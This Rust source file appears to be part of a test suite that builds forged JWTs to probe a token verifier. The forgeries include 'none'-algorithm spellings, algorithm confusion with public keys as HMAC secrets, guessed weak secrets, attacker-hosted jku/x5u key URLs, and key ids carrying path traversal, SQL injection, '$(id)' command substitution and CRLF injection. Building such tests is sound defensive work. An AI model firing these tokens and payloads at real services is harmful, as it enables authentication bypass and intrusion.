//! What a token's header can lie about: its algorithm, its key, where to fetch its key.

use aws_lc_rs::hmac::{HMAC_SHA256, HMAC_SHA384, HMAC_SHA512};
use serde_json::{Value, json};

use super::{Attack, Loot};
use crate::support::keys::{base64url, claims, hmac, put_together};
use crate::support::tokens;

pub fn attacks(loot: &Loot, thief: &str) -> Vec<Attack> {
    let mut attacks = none(loot);
    attacks.extend(confusions(loot));
    attacks.extend(key_ids(loot));
    attacks.extend(key_places(loot, thief));
    attacks.extend(demands(loot));
    attacks
}

/// The algorithm "none" in every spelling, without and with a signature.
fn none(loot: &Loot) -> Vec<Attack> {
    let body = claims("ann").to_string();
    let spellings = [
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!("none "),
        json!(" none"),
        json!("none\u{0}"),
        json!(""),
        json!(null),
        json!(0),
        json!(["none"]),
        json!({"alg": "none"}),
        json!(["HS256"]),
        json!(true),
        json!("hs256"),
        json!("Hs256"),
        json!("eddsa"),
        json!("RSA"),
        json!("plain"),
        json!("dir"),
    ];
    let mut attacks = Vec::new();
    for alg in spellings {
        for kid in [None, Some("EdDSA")] {
            let header = kid.map_or_else(|| json!({"alg": alg}), |kid| json!({"alg": alg, "kid": kid}));
            let header = header.to_string();
            let what = |how| format!("the header {header}, {how}");
            attacks.push(Attack::new(what("unsigned"), put_together(&header, &body, |_| Vec::new())));
            let signed = put_together(&header, &body, |message| match kid {
                Some(kid) => loot.key(kid).sign(message),
                None => hmac(HMAC_SHA256, tokens::SECRET.as_bytes(), message),
            });
            attacks.push(Attack::new(what("signed"), signed));
        }
    }
    for header in [
        r"{}",
        "",
        "null",
        "[]",
        r#""HS256""#,
        "{",
        r#"{"typ":"JWT"}"#,
        r#"{"alg":"HS256""#,
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"HS256","alg":"HS256"}"#,
        r#"{"ALG":"HS256"}"#,
        "{\"alg\":\"HS256\"}\0",
    ] {
        let token =
            put_together(header, &body, |message| hmac(HMAC_SHA256, tokens::SECRET.as_bytes(), message));
        attacks.push(Attack::new(format!("the header {header:?}"), token));
    }
    attacks
}

/// A public key used as an HMAC secret; one algorithm's name with another's key.
fn confusions(loot: &Loot) -> Vec<Attack> {
    let body = claims("ann").to_string();
    let mut attacks = Vec::new();
    let macs = [("HS256", HMAC_SHA256), ("HS384", HMAC_SHA384), ("HS512", HMAC_SHA512)];
    for key in &loot.keys {
        for (form, public) in key.public_forms() {
            for (alg, mac) in macs {
                for header in [json!({"alg": alg, "kid": key.alg()}), json!({"alg": alg})] {
                    let token =
                        put_together(&header.to_string(), &body, |message| hmac(mac, &public, message));
                    let what = format!("{header} with the {} key's {form} as its secret", key.alg());
                    attacks.push(Attack::new(what, token));
                }
            }
        }
        let others = [
            "EdDSA", "ES256", "RS256", "PS256", "HS256", "HS384", "HS512", "ES384", "ES512", "RS384",
            "RS512", "PS384", "PS512", "ES256K", "EdDSA448",
        ];
        for alg in others.into_iter().filter(|alg| *alg != key.alg()) {
            let header = json!({"alg": alg, "kid": key.alg()}).to_string();
            let token = put_together(&header, &body, |message| key.sign(message));
            attacks.push(Attack::new(format!("the name {alg} on the {} key's signature", key.alg()), token));
        }
    }
    for secret in ["", "secret", "null", "undefined", "\0", "EdDSA", "better-auth-secret-123456789"] {
        let token = put_together(r#"{"alg":"HS256"}"#, &body, |message| {
            hmac(HMAC_SHA256, secret.as_bytes(), message)
        });
        attacks.push(Attack::new(format!("the secret {secret:?}"), token));
    }
    for (alg, mac) in &macs[1..] {
        let header = json!({"alg": alg}).to_string();
        let secret = tokens::SECRET.as_bytes();
        attacks.push(Attack::new(
            format!("{alg} with the right secret"),
            put_together(&header, &body, |message| hmac(*mac, secret, message)),
        ));
    }
    attacks
}

/// Key ids that name no key, or try to reach a file, a URL or a query.
fn key_ids(loot: &Loot) -> Vec<Attack> {
    let key = loot.key("EdDSA");
    let kids = [
        json!(null),
        json!(""),
        json!(0),
        json!(["EdDSA"]),
        json!({"kid": "EdDSA"}),
        json!("eddsa"),
        json!("EdDSA "),
        json!("EdDSA\u{0}"),
        json!("../../../../dev/null"),
        json!("/dev/null"),
        json!("file:///dev/null"),
        json!("' OR 1=1 --"),
        json!("x' UNION SELECT '0wned"),
        json!("$(id)"),
        json!("%00"),
        json!("*"),
        json!("own"),
        json!("k".repeat(4000)),
        json!("\u{202e}ASDdE"),
        json!("__proto__"),
        json!("0wned\r\nX: y"),
    ];
    let mut attacks: Vec<_> = kids
        .iter()
        .map(|kid| {
            let header = json!({"alg": "EdDSA", "kid": kid}).to_string();
            let token = put_together(&header, &claims("ann").to_string(), |message| key.sign(message));
            Attack::new(format!("the key id {kid}"), token)
        })
        .collect();
    let body = claims("ann").to_string();
    for (what, header) in
        [("no key id", r#"{"alg":"EdDSA"}"#), ("two key ids", r#"{"alg":"EdDSA","kid":"own","kid":"EdDSA"}"#)]
    {
        attacks.push(Attack::new(what, put_together(header, &body, |message| key.sign(message))));
    }
    for kid in ["EdDSA", "own", "../../own"] {
        attacks
            .push(Attack::new(format!("the attacker's key as {kid}"), loot.own.token(kid, &claims("ann"))));
    }
    attacks
}

/// The attacker's own key, or a URL of it, in the token itself.
fn key_places(loot: &Loot, thief: &str) -> Vec<Attack> {
    let own = loot.own.jwk("own");
    let places: [(&str, Value); 7] = [
        ("jwk", own.clone()),
        ("jwk", json!({"kty": "oct", "k": base64url(b"0wned"), "alg": "HS256"})),
        ("jku", json!(thief)),
        ("x5u", json!(thief)),
        ("x5c", json!([base64url(b"0wned")])),
        ("url", json!(thief)),
        ("jwks", json!({"keys": [own]})),
    ];
    let mut attacks = Vec::new();
    for (name, value) in places {
        for kid in [Some("own"), Some("EdDSA"), None] {
            let mut header = json!({"alg": "EdDSA", name: value});
            if let Some(kid) = kid {
                header["kid"] = kid.into();
            }
            let body = claims("ann").to_string();
            let token = put_together(&header.to_string(), &body, |message| loot.own.sign(message));
            attacks.push(Attack::new(format!("{name} of the attacker, key id {kid:?}"), token));
        }
    }
    attacks
}

/// Valid signatures under a header that says the token is meant for something else.
fn demands(loot: &Loot) -> Vec<Attack> {
    let crits = [
        json!(["exp"]),
        json!(["b64"]),
        json!(["x"]),
        json!([]),
        json!("exp"),
        json!(null),
        json!([null]),
        json!({}),
    ];
    let types = [
        "better-auth.session-cache+jwt",
        "Better-Auth.Session-Cache+JWT",
        "application/better-auth.session-cache+jwt",
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "JWE",
    ];
    let crits = crits.into_iter().map(|crit| json!({"crit": crit, "b64": true, "x": 1}));
    let types = types.into_iter().map(|typ| json!({"typ": typ}));
    let odd =
        [json!({"typ": 7}), json!({"cty": "JWT", "typ": "0wned"}), json!({"b64": false, "crit": ["b64"]})];
    let mut attacks = Vec::new();
    for demand in crits.chain(types).chain(odd) {
        for alg in ["EdDSA", "HS256"] {
            let mut header = demand.clone();
            header["alg"] = alg.into();
            header["kid"] = alg.into();
            let token = put_together(&header.to_string(), &claims("ann").to_string(), |message| match alg {
                "HS256" => hmac(HMAC_SHA256, tokens::SECRET.as_bytes(), message),
                _ => loot.key(alg).sign(message),
            });
            attacks.push(Attack::new(format!("the header {header}"), token));
        }
    }
    attacks
}
